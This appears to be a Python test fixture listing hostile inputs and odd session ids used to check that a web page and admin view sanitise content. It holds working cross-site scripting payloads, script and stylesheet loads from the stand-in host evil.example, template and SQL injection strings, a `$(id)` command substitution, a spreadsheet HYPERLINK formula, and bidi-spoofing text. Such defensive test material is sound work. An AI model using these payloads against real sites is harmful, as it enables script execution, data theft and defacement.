"""Texts that try to run a script, to reach another host, or to break the page."""

RUN = "window.pwned=1"
ELSEWHERE = "https://evil.example"

HOSTILE = [
    f"<script>{RUN}</script>",
    f'"><script>{RUN}</script>',
    f"</script><script>{RUN}</script>",
    f"</textarea></title></style><script>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script src={ELSEWHERE}/x.js></script>",
    f"<img src=x onerror={RUN}>",
    f"<img src='{ELSEWHERE}/x.png'>",
    f"<IMG SRC=x OnErRoR={RUN}//",
    f"<img src=x onerror=alert`1` alt='{RUN}'>",
    f"<svg onload={RUN}>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f"<svg><script href=data:,{RUN} /></svg>",
    f"<svg><use href=\"data:image/svg+xml,<svg id=x onload='{RUN}'/>#x\" /></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<template><img src=x onerror={RUN}></template>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src=javascript:parent.{RUN}></iframe>",
    f"<object data='data:text/html,<script>{RUN}</script>'></object><embed src={ELSEWHERE}/x.swf>",
    f"<details open ontoggle={RUN}><summary>x</summary></details>",
    f"<input autofocus onfocus={RUN}><video src=x onerror={RUN}></video>",
    f"<body onload={RUN}><marquee onstart={RUN}>x</marquee>",
    f"<style>@import '{ELSEWHERE}/x.css'; *{{background:url({ELSEWHERE}/y.png)}}</style>",
    f"<link rel=stylesheet href={ELSEWHERE}/x.css><meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
    f"<base href={ELSEWHERE}/><a href=x>x</a>",
    "<form id=body name=cookie><input name=querySelector><input id=getElementById></form><img name=body id=composer>",
    "<a id=page-data name=page-data href='javascript:1'>x</a><p id=message-list class=versions data-testid=send>x</p>",
    f"<form action={ELSEWHERE}><button formaction=javascript:{RUN}>Clique</button></form>",
    f"<a href='javascript:{RUN}'>x</a>",
    f"[clique](javascript:{RUN})",
    f"[clique](JaVaScRiPt&colon;{RUN})",
    f"[clique](java\tscript:{RUN}) [e](&#106;avascript:{RUN}) [e](<javascript:{RUN}>)",
    f"[clique](vbscript:{RUN}) [e](data:text/html,<script>{RUN}</script>) [e](blob:{ELSEWHERE}/x)",
    f"![x]({ELSEWHERE}/pixel.png) ![y](javascript:{RUN}) ![z](data:image/svg+xml,<svg/onload={RUN}>)",
    f"![x](x\"onerror=\"{RUN}) [y](https://x\"onmouseover=\"{RUN})",
    f"[x]: javascript:{RUN}\n\n[clique][x] ![imagem][x]",
    f"<javascript:{RUN}> <https://evil.example/\"onclick={RUN}>",
    f"[x](https://banco.example 'título\" onmouseover=\"{RUN}')",
    f"```html\" onclick=\"{RUN}\n<script>{RUN}</script>\n```",
    f"`<img src=x onerror={RUN}>` ~~<b onclick={RUN}>x</b>~~ | <td onclick={RUN}> |",
    "{{7*7}} {% load x %} ${7*7} #{7*7} <%= 7*7 %> {{constructor.constructor('window.pwned=1')()}}",
    "__proto__ constructor prototype toString valueOf hasOwnProperty",
    "\u202etxt.exe\u202d \u2066\u2067\u2068 \u200f\u200b\ufeff مرحبا \u2028\u2029 fim",
    "\x01\x02\x07\x08\x0b\x0c\x1b[31mvermelho\x1b[0m \x7f\x9f \ufffe \U000e0041 🏴‍☠️ Z̷̧̛̘a̸l̴g̶o̵",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e &lt;script&gt;{RUN}&lt;/script&gt; &#60;img onerror={RUN}&#62;",
    f"%3Cscript%3E{RUN}%3C/script%3E ../../admin/ //evil.example /\\evil.example ?q=%00#",
    "'; DROP TABLE sessions_api_session; -- \" OR 1=1 `$(id)` =HYPERLINK(\"https://evil.example\",\"x\")",
    f"{'W' * 150}<img src=x onerror={RUN}>",
]  # fmt: skip
LONG = "semespaço" * 5000 + "[" * 2000 + "> " * 500 + "* " * 500  # slow for a Markdown parser
ALL = "\n\n".join(HOSTILE)
# Valid session ids; the page and the admin put them into addresses and attributes.
IDS = [
    "...", "__proto__", "constructor", "toString", "javascript:alert", "data:text-html", "-", "_", ":",
    "new", "null", "undefined", "NaN", "0", "-1", "--help", "a.b", "C:", "http:evil.example", "x" * 128,
]  # fmt: skip
